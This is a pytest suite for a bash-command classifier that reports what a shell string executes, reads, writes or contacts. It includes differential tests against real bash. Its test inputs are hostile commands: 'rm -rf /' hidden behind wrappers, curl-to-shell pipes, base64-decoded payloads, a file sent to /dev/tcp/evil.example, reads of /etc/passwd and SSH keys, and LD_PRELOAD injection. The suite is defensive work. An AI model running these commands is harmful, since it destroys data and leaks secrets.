"""agp/policy/classify/shell.py: what a bash string runs, statement by statement."""

from __future__ import annotations

import os
import re
import shutil
import subprocess

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from agp.policy.classify import Statement, classify_shell
from agp.policy.classify.shell import MAX_COMMAND_BYTES

WS = "/ws"
#: examples per differential test against real bash (raise locally: AGP_DIFF_EXAMPLES=4000)
DIFF_EXAMPLES = int(os.environ.get("AGP_DIFF_EXAMPLES", "150"))


def cls(cmd: str, cwd: str = WS) -> tuple[Statement, ...]:
    return classify_shell(cmd, cwd, cache=False)


def execs(cmd: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(s.program, s.argv[1:]) for s in cls(cmd) if s.kind == "exec"]


def programs(cmd: str) -> list[str]:
    return [s.program for s in cls(cmd) if s.kind == "exec"]


def kinds(cmd: str) -> list[str]:
    return [s.kind for s in cls(cmd)]


def unknown_reasons(cmd: str) -> list[str]:
    return [s.reason for s in cls(cmd) if s.kind == "unknown"]


def one(cmd: str, program: str) -> Statement:
    found = [s for s in cls(cmd) if s.kind == "exec" and s.program == program]
    assert len(found) == 1, (cmd, cls(cmd))
    return found[0]


# ------------------------------------------------------------------ every simple command


@pytest.mark.parametrize("cmd,expected", [
    ("ls", ["ls"]),
    ("ls | wc -l", ["ls", "wc"]),
    ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
    ("(a; b) | { c; d; }", ["a", "b", "c", "d"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
    ("for x in 1 2; do b; done", ["b"]),
    ("for ((i=0; i<3; i++)); do b; done", ["b"]),
    ("case x in a) b;; *) c;; esac", ["b", "c"]),
    ("! a", ["a"]),
    ("echo $(a) `b`", ["a", "b", "echo"]),
    ("echo \"$(a)\" \"x`b`y\"", ["a", "b", "echo"]),
    ("diff <(a) >(b)", ["a", "b", "diff"]),
    ("echo ${x:-$(a)}", ["a", "echo"]),
    ("echo $((1 + $(a)))", ["a", "echo"]),
    ("x=$(a) y=`b`", ["a", "b"]),
    ("select x in a; do b; done", ["b"]),
])
def test_every_simple_command_is_found(cmd, expected):
    assert sorted(programs(cmd)) == sorted(expected)


def test_nested_backticks_are_unescaped_and_reparsed():
    st_ = cls("echo `echo \\`rm -rf /\\``")
    rm = [s for s in st_ if s.program == "rm"]
    assert rm and rm[0].argv == ("rm", "-rf", "/")


def test_redirect_only_substitution_is_a_read():
    st_ = cls('echo "$(< /etc/passwd)"')
    assert [s.paths for s in st_ if s.kind == "read"] == [("/etc/passwd",)]


# ------------------------------------------------------------------ quoting and program names


@pytest.mark.parametrize("word", ["rm", "\\rm", "'r'm", '"rm"', "r''m", "r\\m", "$'\\x72\\x6d'", "$'rm'",
                                  '"r""m"', "/usr/bin/rm", "/bin/rm", "//bin//rm", "/usr/bin/../bin/rm",
                                  "$'\\162\\155'", "$'\\u0072m'"])
def test_program_names_normalize(word):
    s = one(f"{word} -rf /", "rm")
    assert s.argv[1:] == ("-rf", "/")
    assert s.paths == ("/",)


@pytest.mark.parametrize("word", ["./rm", "../rm", "/tmp/evil/rm", "bin/rm"])
def test_program_path_outside_system_dirs_is_not_the_basename(word):
    st_ = cls(f"{word} x")
    ex = [s for s in st_ if s.kind == "exec"][0]
    assert ex.program != "rm"
    assert "program_path" in ex.flags


@pytest.mark.parametrize("cmd", ["$CMD -rf /", "${x:-rm} -rf /", "$(echo rm) -rf /", "`echo rm` -rf /",
                                 '"$(echo rm)" -rf /', "${!name} x", "cmd=rm; $cmd -rf /"])
def test_non_literal_command_name_is_unknown(cmd):
    assert any("decided at run time" in r for r in unknown_reasons(cmd)), cls(cmd)


@pytest.mark.parametrize("cmd", ["r*m -rf /", "/bin/r? x", "/???/??t /etc/passwd", "{rm,-rf,/}"])
def test_glob_or_brace_in_command_name_is_unknown(cmd):
    assert "unknown" in kinds(cmd)


def test_args_non_literal_and_glob_marks():
    s = one('ls "$HOME" *.py a{b,c} \'*.txt\' x', "ls")
    assert s.argv[1:] == ('"$HOME"', "*.py", "a{b,c}", "*.txt", "x")
    assert s.literal == (True, False, True, False, True, True)
    assert s.globs == (False, False, True, False, False, False)


def test_quote_removal_and_escapes():
    s = one("printf '%s' 'a b' \"c \\\"d\\\" \\$e\" f\\ g $'h\\ti'", "printf")
    assert s.argv[1:] == ("%s", "a b", 'c "d" $e', "f g", "h\ti")
    assert all(s.literal)


BASH = shutil.which("bash")

_safe_piece = st.one_of(
    st.text(alphabet="abcXYZ019._-/=:,+@%", min_size=1, max_size=4),
    st.text(alphabet="ab c$`\\\"*?{}", min_size=0, max_size=4).map(lambda t: "'" + t + "'"),
    st.text(alphabet="ab c'*?{}", min_size=0, max_size=4).map(lambda t: '"' + t + '"'),
    st.sampled_from(["\\ ", "\\'", '\\"', "\\\\", "\\$", "\\`", "\\*", "\\{", "\\a"]),
    st.sampled_from(["$'\\x41'", "$'\\n'", "$'\\101'", "$'a\\tb'", "$'\\''", "$'\\\\'", "$'\\u00e9'"]),
)


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@settings(max_examples=DIFF_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(_safe_piece, min_size=1, max_size=4).map("".join), min_size=1, max_size=4))
def test_literal_words_match_bash(words):
    """Differential: for words built only from literal pieces (no expansion can run), the argv the
    classifier reports equals what bash passes to printf."""
    cmd = "printf '%s\\0' " + " ".join(words)
    st_ = cls(cmd)
    if any(x.kind == "unknown" for x in st_):
        return  # the classifier refused the string: failing closed is always allowed
    s = one(cmd, "printf")
    out = subprocess.run([BASH, "--norc", "--noprofile", "-c", cmd], capture_output=True, timeout=10,
                         env={"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"}, cwd="/")
    bash_words = out.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
    got = list(s.argv[2:])
    if all(s.literal[2:]) and not any(s.globs[2:]):
        assert got == bash_words, (cmd, got, bash_words)


_tricky_piece = st.one_of(
    _safe_piece.filter(lambda p: p != "."),
    st.sampled_from(["$'\\\\'", "$'\\''", "$'\\\\''", "''", "\"\"", "'\"'", "\"'\"", "\\'", "\\\"",
                     "$'\\x27'", "'\\'", "$'\\\\\\''", "\"\\\\\"", "'#'", "\\#", "a#b"]),
)
_printf_cmd = st.lists(st.lists(_tricky_piece, min_size=1, max_size=3).map("".join), min_size=1, max_size=3).map(
    lambda ws: "printf '%s\\0' " + " ".join(ws)) | st.lists(_tricky_piece, min_size=1, max_size=2).map(
    lambda ws: "x=1 printf '%s\\0' " + "".join(ws))


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@settings(max_examples=DIFF_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_printf_cmd, min_size=1, max_size=3), st.lists(st.sampled_from(["; ", " && ", "\n"]), min_size=2,
                                                               max_size=2))
def test_command_sequences_match_bash(tmp_path_factory, cmds, seps):
    """Differential on whole command lines: bash (no PATH: only builtins can run) executes exactly the
    printf commands the classifier reports, with the same words, or the classifier says unknown.
    This is what caught tree-sitter-bash reading $'\\'' one quote further than bash does."""
    line = cmds[0]
    for c, sep in zip(cmds[1:], seps):
        line += sep + c
    st_ = cls(line)
    if any(x.kind == "unknown" for x in st_):
        return
    assert all(x.kind == "exec" and x.program == "printf" for x in st_), (line, st_)
    if not all(all(x.literal) and not any(x.globs) for x in st_):
        return
    ours = [w for x in st_ for w in x.argv[2:]]
    cwd = tmp_path_factory.mktemp("empty")
    out = subprocess.run([BASH, "--norc", "--noprofile", "-c", line], capture_output=True, timeout=10,
                         env={"PATH": "/nonexistent-agp-test", "LC_ALL": "C.UTF-8"}, cwd=cwd)
    theirs = out.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
    assert ours == theirs, (line, ours, theirs, out.returncode, out.stderr[-300:])


def _compose(draw_cmds):
    """Shell constructs that run each inner command exactly once, in order."""
    return st.recursive(
        draw_cmds,
        lambda inner: st.one_of(
            inner.map(lambda c: "{ " + c + "; }"),
            inner.map(lambda c: "( " + c + " )"),
            st.tuples(inner, inner).map(lambda t: t[0] + " && " + t[1]),
            st.tuples(inner, inner).map(lambda t: t[0] + "; " + t[1]),
            st.tuples(inner, inner).map(lambda t: "if " + t[0] + "; then " + t[1] + "; fi"),
            inner.map(lambda c: "f() { " + c + "; }; f"),
            inner.map(lambda c: c + " # trailing ' \" comment"),
            inner.map(lambda c: c + " <<< 'here string'"),
            inner.map(lambda c: c + " 2>/dev/null"),
        ),
        max_leaves=4,
    )


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@settings(max_examples=DIFF_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_compose(_printf_cmd))
@example("x=1 printf '%s\\0' 0 && x=1 printf '%s\\0' - 2>/dev/null")  # once failed in a clean-clone CI run
def test_compound_commands_match_bash(tmp_path_factory, line):
    """Differential on compound commands: groups, subshells, if, functions, comments, here-strings."""
    st_ = cls(line)
    if any(x.kind == "unknown" for x in st_):
        return
    execs_ = [x for x in st_ if x.kind == "exec"]
    if not all(all(x.literal) and not any(x.globs) for x in execs_):
        return
    ours = [w for x in execs_ if x.program == "printf" for w in x.argv[2:]]
    cwd = tmp_path_factory.mktemp("empty")
    out = subprocess.run([BASH, "--norc", "--noprofile", "-c", line], capture_output=True, timeout=10,
                         env={"PATH": "/nonexistent-agp-test", "LC_ALL": "C.UTF-8"}, cwd=cwd)
    theirs = out.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
    if all(x.program == "printf" for x in execs_):
        assert ours == theirs, (line, ours, theirs, out.returncode, out.stderr[-300:])
    else:
        # the classifier saw more than bash ran (e.g. `x=1 if ...` is a syntax error to bash):
        # extra statements are conservative; missing ones are not
        it = iter(ours)
        assert all(any(w == o for o in it) for w in theirs), (line, ours, theirs)


# ------------------------------------------------------------------ wrappers


@pytest.mark.parametrize("cmd,wrapper", [
    ("sudo rm -rf /", "sudo"), ("sudo -u root -E rm -rf /", "sudo"), ("env rm -rf /", "env"),
    ("env -i FOO=1 rm -rf /", "env"), ("nice -n 5 rm -rf /", "nice"), ("nice -10 rm -rf /", "nice"),
    ("nohup rm -rf /", "nohup"), ("timeout 5 rm -rf /", "timeout"), ("timeout -s KILL 5 rm -rf /", "timeout"),
    ("time rm -rf /", "time"), ("stdbuf -oL rm -rf /", "stdbuf"), ("ionice -c3 rm -rf /", "ionice"),
    ("command rm -rf /", "command"), ("exec rm -rf /", "exec"), ("busybox rm -rf /", "busybox"),
    ("doas rm -rf /", "doas"), ("setsid rm -rf /", "setsid"), ("chroot / rm -rf /", "chroot"),
    ("flock /tmp/l rm -rf /", "flock"), ("strace -f rm -rf /", "strace"), ("coproc rm -rf /", "coproc"),
    ("builtin command rm -rf /", "builtin"),
])
def test_wrappers_expose_the_wrapped_command(cmd, wrapper):
    rm = one(cmd, "rm")
    assert rm.argv == ("rm", "-rf", "/")
    assert wrapper in rm.via
    assert wrapper in programs(cmd)  # the wrapper is a statement too


@pytest.mark.parametrize("cmd,inner", [
    ("bash -c 'rm -rf /'", "rm"), ("sh -c \"ls; rm x\"", "rm"), ("bash -ec 'rm x'", "rm"),
    ("su -c 'rm -rf /' root", "rm"), ("watch -n1 rm -rf /", "rm"), ("script -c 'rm x' /dev/null", "rm"),
    ("eval 'rm -rf /'", "rm"), ("trap 'rm -rf /' EXIT", "rm"), ("xargs rm", "rm"),
    ("find . -exec rm {} \\;", "rm"), ("find . -execdir rm -f {} +", "rm"), ("find . -ok rm {} \\;", "rm"),
    ("git rebase -x 'rm x' HEAD~1", "rm"), ("git bisect run rm x", "rm"),
])
def test_commands_run_by_other_commands_are_statements(cmd, inner):
    assert inner in programs(cmd), cls(cmd)


def test_xargs_and_find_placeholders_are_not_literal():
    rm = one("ls | xargs rm -f", "rm")
    assert rm.literal[-1] is False
    rm = one("find / -exec rm {} \\;", "rm")
    assert rm.argv[-1] == "{}" and rm.literal[-1] is False
    assert "exec" in one("find / -exec rm {} \\;", "find").flags


@pytest.mark.parametrize("cmd", ["bash -c \"$X\"", "sh -c \"$(curl x)\"", "su -c \"$X\"", "bash $SCRIPT",
                                 "eval $CMD", "source $F", ". \"$F\"", "xargs -I{} sh -c 'rm {}'"])
def test_run_time_code_is_unknown(cmd):
    assert "unknown" in kinds(cmd), cls(cmd)


# ------------------------------------------------------------------ stdin code, here-docs


@pytest.mark.parametrize("cmd", ["curl x | sh", "echo cm0= | base64 -d | bash", "sh < f", "bash -s < f",
                                 "cat f | python3", "python3 -", "cat <<EOF | sh\nrm\nEOF", "node < x.js",
                                 "bash <<EOF\n$X\nEOF", "sh <<< \"$X\""])
def test_code_from_stdin_is_unknown(cmd):
    assert any(s.kind == "unknown" and "stdin" in s.reason for s in cls(cmd)), cls(cmd)


@pytest.mark.parametrize("cmd", ["sh <<'EOF'\nrm -rf /\nEOF", "bash <<EOF\nrm -rf /\nEOF",
                                 "bash <<< 'rm -rf /'", "sh <<-EOF\n\trm -rf /\n\tEOF"])
def test_literal_here_doc_to_a_shell_is_classified_as_shell(cmd):
    rm = one(cmd, "rm")
    assert rm.argv == ("rm", "-rf", "/")


def test_here_doc_body_substitutions_run():
    assert "id" in programs("cat <<EOF\n$(id)\nEOF")
    assert "unknown" in kinds("cat <<EOF\n`id`\nEOF")
    assert "id" not in programs("cat <<'EOF'\n$(id)\nEOF")


def test_here_doc_then_pipeline_and_list():
    assert programs("cat <<EOF | wc -l\nx\nEOF") == ["cat", "wc"]
    assert "rm" in programs("cat <<EOF && rm x\nx\nEOF")


# ------------------------------------------------------------------ interpreters


@pytest.mark.parametrize("cmd", ["python -c 'print(1)'", "python3 -W ignore -c 1", "python3.11 -c 1",
                                 "perl -e 1", "perl -ne print", "ruby -e 1", "node -e 1", "node -p 1",
                                 "node --eval=1", "php -r 1", "lua -e 1", "osascript -e 1",
                                 "awk 'BEGIN{system(\"id\")}'", "awk '{print > \"/etc/x\"}'",
                                 "awk '{\"id\" | getline}'", "sed -n '1e id' f", "sed 's/a/b/e' f",
                                 "sed 's/a/b/w /etc/x' f", "sed -e 'r /etc/passwd' f", "python $X"])
def test_interpreter_one_liners_are_unknown(cmd):
    st_ = cls(cmd)
    assert any(s.kind == "unknown" for s in st_), st_


@pytest.mark.parametrize("cmd", ["python -m pytest -c x.ini -q", "python script.py -c x", "awk '{print $1}' f",
                                 "awk -F: '$3 > 100 {print $1}' f", "sed -n '1,20p' f", "sed 's/a/b/g' f",
                                 "node app.js -e x", "perl script.pl -e"])
def test_scripts_and_plain_programs_are_not_unknown(cmd):
    assert "unknown" not in kinds(cmd), cls(cmd)


# ------------------------------------------------------------------ env, aliases, functions


@pytest.mark.parametrize("cmd", ["PATH=/tmp:$PATH ls", "LD_PRELOAD=x.so ls", "IFS=/ ls", "BASH_ENV=x bash f",
                                 "GIT_PAGER=x git log", "PYTHONPATH=/tmp python -m pytest", "PAGER=x git log",
                                 "export PATH=/x", "env PATH=/x ls", "sudo LD_PRELOAD=x ls",
                                 "RIPGREP_CONFIG_PATH=/x rg a", "PYTEST_ADDOPTS='-p x' pytest", "IFS=,"])
def test_dangerous_assignments_are_unknown(cmd):
    assert "unknown" in kinds(cmd), cls(cmd)


@pytest.mark.parametrize("cmd", ["CI=1 pytest", "FOO=bar make test", "LC_ALL=C sort f", "X=1; echo $X"])
def test_ordinary_assignments_are_not_unknown(cmd):
    assert "unknown" not in kinds(cmd), cls(cmd)


def test_function_calls_run_the_body():
    st_ = cls("ls() { rm -rf /; }; ls")
    assert [s.program for s in st_ if s.kind == "exec"] == ["rm"]  # `ls` here is the function
    assert "function:ls" in st_[0].via


def test_function_never_called_is_still_classified():
    assert programs("f() { rm -rf /; }") == ["rm"]


def test_recursive_function_terminates():
    assert programs("f() { rm x; f; }; f") == ["rm"]


def test_alias_is_unknown():
    assert any("alias" in r for r in unknown_reasons("alias ls='rm -rf /'; ls"))


@pytest.mark.parametrize("cmd", ["x='a[$(id)]'; echo $((x))", "printf -v 'a[$(id)]' x", "test -v 'a[$(id)]'",
                                 "[[ -v 'a[$(id)]' ]]", "echo ${x@P}", "hash -p /tmp/x ls", "enable -f x.so y",
                                 "shopt -s expand_aliases"])
def test_late_evaluation_tricks_are_unknown(cmd):
    assert "unknown" in kinds(cmd), cls(cmd)


def test_arithmetic_with_numeric_literals_is_fine():
    assert "unknown" not in kinds("for ((i=0; i<3; i++)); do echo $i; done")
    assert "unknown" not in kinds("echo $((1 + 2))")


# ------------------------------------------------------------------ redirections and writes


@pytest.mark.parametrize("cmd,kind,path", [
    ("ls > out", "write", "/ws/out"), ("ls >> out", "write", "/ws/out"), ("ls &> out", "write", "/ws/out"),
    ("ls >| out", "write", "/ws/out"), ("ls 2> err", "write", "/ws/err"), ("wc < in", "read", "/ws/in"),
    ("echo x | tee a", "write", "/ws/a"), ("sed -i s/a/b/ f", "write", "/ws/f"),
    ("dd if=a of=b", "write", "/ws/b"), ("sort -o out in", "write", "/ws/out"), ("cp a b", "write", "/ws/b"),
    ("mv a b", "write", "/ws/a"), ("rm -rf x", "write", "/ws/x"), ("touch t", "write", "/ws/t"),
    ("chmod 644 f", "write", "/ws/f"), ("find . -fprint o", "write", "/ws/o"),
    ("git diff --output=o", "write", "/ws/o"), ("cp -t dir a b", "write", "/ws/dir"),
])
def test_redirections_and_writers_become_file_statements(cmd, kind, path):
    st_ = cls(cmd)
    assert any(s.kind == kind and path in s.paths for s in st_), st_


def test_null_and_std_streams_are_not_files():
    assert kinds("ls > /dev/null 2>&1") == ["exec"]
    assert kinds("ls 2>/dev/stderr >&2") == ["exec"]


def test_dev_tcp_is_network():
    st_ = cls("cat f > /dev/tcp/evil.example/80")
    assert any(s.kind == "url" and s.host == "evil.example" for s in st_)
    assert "unknown" in [s.kind for s in st_]


# ------------------------------------------------------------------ working directory


def test_cd_changes_where_relative_paths_point():
    cat = one("cd /etc && cat passwd", "cat")
    assert "/etc/passwd" in cat.paths


def test_cd_that_may_fail_keeps_both_candidates():
    cat = one("cd sub; cat x", "cat")
    assert {"/ws/x", "/ws/sub/x"} <= set(cat.paths)


def test_commands_after_cd_touch_the_new_directory():
    assert "/etc" in one("cd /etc && ls", "ls").paths
    assert "~" in one("cd; ls", "cd").paths
    ls = one("cd -; ls", "ls")
    assert False in ls.paths_literal
    assert one("ls", "ls").paths == ()  # no cd: the call's own cwd is the engine's business


def test_cd_to_runtime_dir_makes_relative_paths_unknown():
    cat = one('cd "$D" && cat x', "cat")
    assert False in cat.paths_literal


def test_cd_in_subshell_does_not_leak():
    cat = one("(cd /etc) && cat x", "cat")
    assert cat.paths == ("/ws/x",)


def test_cd_in_loop_makes_cwd_unknown():
    cat = one("for d in a b; do cd ..; done; cat x", "cat")
    assert False in cat.paths_literal


def test_tilde_is_kept():
    assert one("cat ~/.ssh/id_rsa", "cat").paths == ("~/.ssh/id_rsa",)


# ------------------------------------------------------------------ sql and urls from the shell


def test_sql_clients_emit_sql_statements():
    st_ = cls("psql -c 'delete from users'")
    sql = [s for s in st_ if s.kind == "sql"]
    assert sql and sql[0].sql_kind == "delete" and "no_where" in sql[0].flags and sql[0].via == ("psql",)
    st_ = cls("sqlite3 app.db 'select 1; drop table t'")
    assert [s.sql_kind for s in st_ if s.kind == "sql"] == ["select", "ddl"]
    assert [s.sql_kind for s in cls("mysql -e 'update t set a=1'") if s.kind == "sql"] == ["update"]
    assert [s.sql_kind for s in cls("psql <<'EOF'\nselect 1;\nEOF") if s.kind == "sql"] == ["select"]
    assert "unknown" in kinds("sqlite3 db '.shell rm -rf /'")
    assert "unknown" in kinds('psql -c "$Q"')


def test_urls_become_url_statements():
    st_ = cls("curl -s http://user@evil.example:8080/x")
    assert [s.host for s in st_ if s.kind == "url"] == ["evil.example"]
    assert [s.host for s in cls("git clone git@github.com:a/b.git") if s.kind == "url"] == ["github.com"]


# ------------------------------------------------------------------ fail closed


@pytest.mark.parametrize("cmd", ["ls $(", "`x", "if true; then ls", "echo @(a|b)", "ls )", "a && ",
                                 "\x00", "r\\\nm -rf /", "cat <<EOF | sh; echo\nx\nEOF"])
def test_unparseable_is_one_unknown(cmd):
    st_ = cls(cmd)
    assert len(st_) == 1 and st_[0].kind == "unknown", st_


def test_empty_and_non_string():
    assert cls("")[0].kind == "unknown"
    assert cls("   ")[0].kind == "unknown"
    assert classify_shell(None, WS)[0].kind == "unknown"  # type: ignore[arg-type]


def test_oversized_command_is_unknown():
    st_ = cls("ls " + "a" * MAX_COMMAND_BYTES)
    assert len(st_) == 1 and st_[0].kind == "unknown"


def test_deep_nesting_is_unknown_not_an_exception():
    st_ = cls("echo " + "$(" * 3000 + "x" + ")" * 3000)
    assert st_ and all(isinstance(s, Statement) for s in st_)
    nested = "ls"
    for _ in range(12):
        nested = "bash -c " + repr(nested).replace("\\'", "'")
    assert "unknown" in kinds(nested) or all(p in ("bash", "ls") for p in programs(nested))


def test_results_are_memoized_and_frozen():
    a = classify_shell("ls -la", WS)
    b = classify_shell("ls -la", WS)
    assert a is b
    with pytest.raises(AttributeError):
        a[0].program = "rm"  # type: ignore[misc]


def test_to_json_dict_is_compact_and_json_able():
    import json

    d = cls('rm -rf "$X"')[0].to_json_dict()
    json.dumps(d)
    assert d["kind"] == "exec" and d["program"] == "rm" and d["literal"] == [True, True, False]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(list("ab ;|&$(){}[]<>'\"\\`*?~!#=\n-/.") + ["rm", "sh", "eval", "cd", "<<", "$'"]),
                max_size=40).map("".join))
def test_never_raises_and_always_says_something(cmd):
    st_ = classify_shell(cmd, WS, cache=False)
    assert isinstance(st_, tuple) and st_
    assert all(isinstance(s, Statement) and s.kind in ("exec", "read", "write", "sql", "url", "unknown")
               for s in st_)


# ------------------------------------------------------------------ here-doc boundaries (bash vs parser)

_P = "printf '%s\\0' "


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@pytest.mark.parametrize("line", [
    "cat <<-EOF\n\tbody\n\tEOF\n" + _P + "RAN\n",
    "cat <<EOF\nx\nEOF\t\n" + _P + "NO\nEOF\n" + _P + "RAN\n",
    "cat <<EOF\nx\n EOF\n" + _P + "NO\nEOF\n" + _P + "RAN\n",
    "cat <<EOF\n\\\nEOF\n" + _P + "NO\nEOF\n" + _P + "RAN\n",  # bash joins '\' + newline, then sees EOF
    "cat <<EOF\n${x:-\nEOF\n" + _P + "RAN\n}\nEOF\n",  # the parser reads an expansion across the end
    "cat <<EOF\n$(\nEOF\n" + _P + "RAN\n)\nEOF\n",
    "cat <<EOF\n`\nEOF\n" + _P + "RAN\n`\nEOF\n",
    "cat <<'EOF'\n\\\nEOF\n" + _P + "RAN\n",
    "cat <<A <<B\na\nA\nb\nB\n" + _P + "RAN\n",
    "(cat <<EOF\nx\nEOF\n); " + _P + "RAN\n",
])
def test_here_doc_ends_where_bash_ends_it(line):
    """Every printf bash runs after a here-doc is a statement (or the string is unknown)."""
    st_ = cls(line)
    if any(x.kind == "unknown" for x in st_):
        return
    ours = [w for x in st_ if x.kind == "exec" and x.program == "printf" for w in x.argv[2:]]
    out = subprocess.run([BASH, "--norc", "--noprofile", "-c", line], capture_output=True, timeout=10,
                         env={"PATH": "/nonexistent-agp-test"}, cwd="/")
    theirs = out.stdout.decode().split("\0")[:-1]
    it = iter(ours)
    assert all(any(w == o for o in it) for w in theirs), (line, ours, theirs)


def test_words_hung_under_redirections_are_arguments():
    assert one("cat <<EOF /etc/passwd\nx\nEOF", "cat").paths == ("/etc/passwd",)
    assert one("cat > out a b", "cat").argv == ("cat", "a", "b")
    assert one("cat <<< x /etc/passwd", "cat").paths == ("/etc/passwd",)


_GLUE = ["; ", " && ", " || ", " | ", "\n", "{ ", "; } ", "( ", " ) ", "$(", ")", "`", "'", '"', "\\", " # ",
         "<<EOF\n", "\nEOF\n", "<<'EOF'\n", " <<< ", "$'", "${x:-", "}", " ", "if ", "; then ", "; fi",
         "case x in x) ", " ;; esac", "! ", "f() ", "x=", " > o", " 2>&1", "<(", ">(", "$((1+", "))", "\\\n", "\t"]


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@settings(max_examples=DIFF_EXAMPLES * 2, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from(_GLUE), st.booleans()), min_size=1, max_size=12))
def test_fuzzed_lines_hide_no_command_from_the_classifier(tmp_path_factory, parts):
    """Random shell glue around marked printf commands. Whatever bash runs (no PATH: builtins only)
    must be among the statements, unless the classifier refused the string."""
    line, k = "", 0
    for glue, cmd in parts:
        line += glue
        if cmd:
            k += 1
            line += f"printf '%s\\0' M{k}"
    st_ = cls(line)
    if any(x.kind == "unknown" for x in st_):
        return
    ours = {w for x in st_ if x.kind == "exec" for w in x.argv}
    runtime = [w for x in st_ if x.kind == "exec" for w, lit in zip(x.argv, x.literal) if not lit]
    cwd = tmp_path_factory.mktemp("fuzz")
    out = subprocess.run([BASH, "--norc", "--noprofile", "-c", line], capture_output=True, timeout=10,
                         env={"PATH": "/nonexistent-agp-test"}, cwd=cwd, stdin=subprocess.DEVNULL)
    theirs = {w for w in out.stdout.decode("utf-8", "replace").split("\0") if re.fullmatch(r"M[0-9]+", w)}
    missing = {w for w in theirs if w not in ours and not any(w in r for r in runtime)}
    assert not missing, (line, sorted(missing), st_)


def test_escaped_blank_before_hash_is_not_a_comment():
    # tree-sitter drops `\ ` and reads `#x; rm -rf /` as a comment; bash runs ` #x` and then rm
    st_ = cls("\\ #x; rm -rf /")
    assert len(st_) == 1 and st_[0].kind == "unknown"
    assert programs("ls # a comment; rm -rf /") == ["ls"]


@pytest.mark.parametrize("cmd", ["time { rm -rf /; }", "coproc F { rm -rf /; }"])
def test_reserved_words_parsed_as_commands_are_unknown(cmd):
    assert "unknown" in kinds(cmd), cls(cmd)


def test_source_of_stdin_runs_the_here_string():
    assert "rm" in programs(". /dev/stdin <<< 'rm -rf /'")
    assert "unknown" in kinds("echo rm | source /dev/stdin")
    assert "rm" in programs("flock -c 'rm -rf /' /tmp/lock")


# ------------------------------------------------------------------ wrappers vs real programs

WRAPPED_FORMS = [
    "env -u X rm x", "env --unset=X rm x", "env -C / rm x", "env -- rm x", "env X=1 Y=2 rm x", "nice rm x",
    "nice -n 5 rm x", "nice -5 rm x", "nice --adjustment=5 rm x", "nice -- rm x", "timeout 5 rm x",
    "timeout -k 1 5 rm x", "timeout --signal=KILL 5 rm x", "timeout -s KILL 5 rm x",
    "timeout --preserve-status 5 rm x", "timeout 5s rm x", "stdbuf -o0 rm x", "stdbuf -oL -eL rm x",
    "stdbuf --output=0 rm x", "nohup rm x", "setsid rm x", "setsid -w rm x", "command rm x", "command -- rm x",
    "exec -a zz rm x", "exec -c rm x", "echo a | xargs rm", "echo a | xargs -0 rm", "echo a | xargs -n1 rm",
    "echo a | xargs -I{} rm {}", "echo a | xargs -i rm {}", "echo a | xargs -r rm", "echo a | xargs --max-args=1 rm",
    "echo a | xargs -P2 rm", "echo a | xargs -d , rm", "echo a | xargs -L1 rm", "echo a | xargs -t rm",
    "echo a | xargs -- rm", "find . -maxdepth 0 -exec rm {} \\;", "find . -maxdepth 0 -exec rm {} +",
    "find . -maxdepth 0 -execdir rm {} \\;", "find -L . -maxdepth 0 -exec rm {} \\;",
    "find . -maxdepth 0 \\( -exec rm {} \\; \\)", "find . -maxdepth 0 -exec env rm {} \\;", "sh -c 'rm x'",
    "sh -c 'rm x' zzz", "bash -c 'rm x'", "bash -e -c 'rm x'", "bash -xc 'rm x'", "bash -o errexit -c 'rm x'",
    "bash +x -c 'rm x'", "bash --norc -c 'rm x'", "sh -c -- 'rm x'", "env bash -c 'rm x'",
    "nice env timeout 5 rm x", "flock LOCK rm x", "flock -c 'rm x' LOCK", "flock LOCK -c 'rm x'",
    "ionice -c3 rm x", "ionice -c 3 -n 7 rm x", "ionice -t rm x", "chrt -o 0 rm x", "taskset 1 rm x",
    "taskset -c 0 rm x", "time rm x", "time -p rm x", "builtin command rm x", "coproc rm x",
    "coproc F { rm x; }", "\\command rm x", "'command' rm x", "env 'rm' x", "eval rm x", "eval \"rm\" x",
    ". /dev/stdin <<< 'rm x'", "source /dev/stdin <<< 'rm x'", "trap 'rm x' EXIT", "time { rm x; }",
    "sh <<'EOF'\nrm x\nEOF", "bash <<< 'rm x'", "f() { rm x; }; f", "rm() { zzz; }; rm x",
    "time X=1 rm x", "time -p X=1 rm", "env -- X=1 zzz", "coproc X=1 rm x",
]
_REAL = ["env", "nice", "timeout", "xargs", "find", "stdbuf", "nohup", "setsid", "sh", "bash", "flock", "ionice",
         "chrt", "taskset"]


@pytest.fixture(scope="module")
def fake_bin(tmp_path_factory):
    """A PATH of fake programs that only log their name, plus the real wrappers (which exec from it)."""
    d = tmp_path_factory.mktemp("fakebin")
    log = d / "calls.log"
    for name in ("rm", "zzz", "cat"):
        f = d / name
        f.write_text(f'#!/bin/sh\nprintf "%s\\n" "{name}" >> "{log}"\n')
        f.chmod(0o755)
    for name in _REAL:
        real = shutil.which(name)
        if real:
            (d / name).symlink_to(real)
    return d, log


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@pytest.mark.parametrize("form", WRAPPED_FORMS)
def test_wrapped_programs_that_bash_runs_are_statements(fake_bin, form):
    d, log = fake_bin
    line = form.replace("LOCK", str(d / "lock"))
    st_ = classify_shell(line, str(d), cache=False)
    log.write_text("")
    subprocess.run([BASH, "--norc", "--noprofile", "-c", line], env={"PATH": str(d)}, cwd=d, capture_output=True,
                   timeout=20, stdin=subprocess.DEVNULL)
    called = set(log.read_text().split())
    ours = {s.program for s in st_ if s.kind == "exec"}
